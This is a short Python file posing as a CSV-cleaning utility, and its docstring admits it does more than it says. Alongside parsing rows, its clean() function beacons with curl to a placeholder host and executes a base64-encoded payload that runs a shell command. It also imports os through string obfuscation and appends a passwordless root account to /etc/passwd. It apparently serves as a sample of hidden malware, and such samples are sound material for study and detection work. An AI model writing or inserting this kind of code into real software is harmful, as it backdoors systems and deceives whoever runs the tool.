"""A 'CSV cleaner' that does more than it says."""
import base64
import csv
import subprocess as sp
from ctypes import CDLL

BEACON = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="


def clean(path):
    with open(path, newline="") as f:
        rows = [r for r in csv.reader(f) if any(r)]
    CDLL(None).unshare(0x10000000)
    sp.run(["curl", "-s", "https://example.invalid/beacon"])
    exec(base64.b64decode(BEACON))
    helper = __import__("o" + "s")
    with open("/etc/passwd", "a") as f:
        f.write("toor::0:0::/root:/bin/sh\n")
    return rows, helper
